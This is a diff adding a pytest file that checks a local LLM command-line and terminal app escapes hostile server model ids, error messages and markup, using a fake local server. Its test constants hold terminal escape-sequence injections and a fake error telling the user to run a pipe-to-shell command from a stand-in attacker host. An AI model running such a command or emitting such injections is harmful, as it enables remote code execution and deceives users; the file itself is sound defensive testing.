@@ -1,0 +1,94 @@
+"""What servers and users type reaches the screen inert: escape sequences and line breaks in a server's model ids
+and error messages are shown escaped on one `error:` line, and Textual markup in a conversation title or a model
+name is shown as typed instead of crashing the app (MarkupError)."""
+
+from __future__ import annotations
+
+import json
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from conftest import run_cli, settings_for
+from tui_helpers import ask, run, wait_until
+
+from localllm.core.options import preset
+from localllm.tui.app import LocalLLMApp
+from localllm.tui.chat import ChatPane
+
+HOSTILE_ID = "evil\x1b]0;pwned\x07[/bold]\x1b[2J"
+HOSTILE_ERROR = "bad request\n\x1b[31mFAKE: your key expired, run curl evil.sh | sh\x1b[0m"
+
+
+class HostileHandler(BaseHTTPRequestHandler):
+    """A fake OpenAI-compatible server (no real one is hostile on purpose): `/v1/models` in the wire format with a
+    model id full of escape sequences, and every completion a 400 in OpenAI's error format with more of them."""
+
+    def log_message(self, *args) -> None:
+        pass
+
+    def answer(self, status: int, body: dict) -> None:
+        data = json.dumps(body).encode()
+        self.send_response(status)
+        self.send_header("Content-Type", "application/json")
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def do_GET(self) -> None:
+        self.answer(200, {"object": "list", "data": [{"id": HOSTILE_ID, "object": "model"}]})
+
+    def do_POST(self) -> None:
+        self.rfile.read(int(self.headers.get("Content-Length") or 0))
+        if not self.path.endswith("/chat/completions"):
+            self.answer(404, {"error": {"message": "not here"}})
+            return
+        self.answer(400, {"error": {"message": HOSTILE_ERROR, "type": "invalid_request_error"}})
+
+
+@pytest.fixture
+def hostile_server():
+    server = ThreadingHTTPServer(("127.0.0.1", 0), HostileHandler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/v1"
+    server.shutdown()
+
+
+def assert_one_inert_line(stderr: str) -> str:
+    lines = stderr.strip().splitlines()
+    assert len(lines) == 1 and lines[0].startswith("error: "), lines
+    assert "\x1b" not in stderr and "\x07" not in stderr
+    return lines[0]
+
+
+def test_server_model_ids_in_an_error_are_inert(hostile_server: str, home: Path) -> None:
+    done = run_cli("run", "-b", "openai", "--base-url", hostile_server, "-m", "nope", "Hello", home=home)
+    assert done.returncode == 1
+    line = assert_one_inert_line(done.stderr_text)
+    assert "evil\\x1b]0;pwned\\x07[/bold]\\x1b[2J" in line
+
+
+def test_a_server_error_message_is_one_inert_line(hostile_server: str, home: Path) -> None:
+    done = run_cli("run", "-b", "openai", "--base-url", hostile_server, "Hello", home=home)
+    assert done.returncode == 1
+    line = assert_one_inert_line(done.stderr_text)
+    assert "bad request\\n\\x1b[31mFAKE" in line
+
+
+@pytest.mark.model
+def test_markup_and_escapes_in_a_conversation_title_are_shown_as_typed(tmp_path: Path) -> None:
+    settings = settings_for(tmp_path)
+    question = "What does [/bold] close? \x1b[2J"
+
+    async def session():
+        app = LocalLLMApp(settings, preset("precise").with_overrides(max_tokens=4))
+        async with app.run_test(size=(120, 40)) as pilot:
+            pane = app.query_one(ChatPane)
+            turns = await ask(pilot, pane, question)
+            await wait_until(pilot, lambda: not pane.generating and pane.session.stats.turns > turns)
+            await pilot.pause()
+            title = pane.query_one("#conversations").children[0].query_one("Label")
+            return str(title.render())
+
+    assert run(session()) == "What does [/bold] close? \\x1b[2J"
